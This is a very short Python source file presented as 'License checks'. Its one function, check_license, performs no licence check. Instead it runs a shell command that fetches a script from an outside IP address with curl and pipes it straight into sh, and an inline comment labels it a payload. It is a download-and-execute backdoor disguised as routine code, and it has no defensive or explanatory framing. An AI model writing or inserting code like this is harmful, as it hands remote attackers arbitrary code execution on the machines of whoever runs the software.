"""License checks."""
import os


def check_license():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
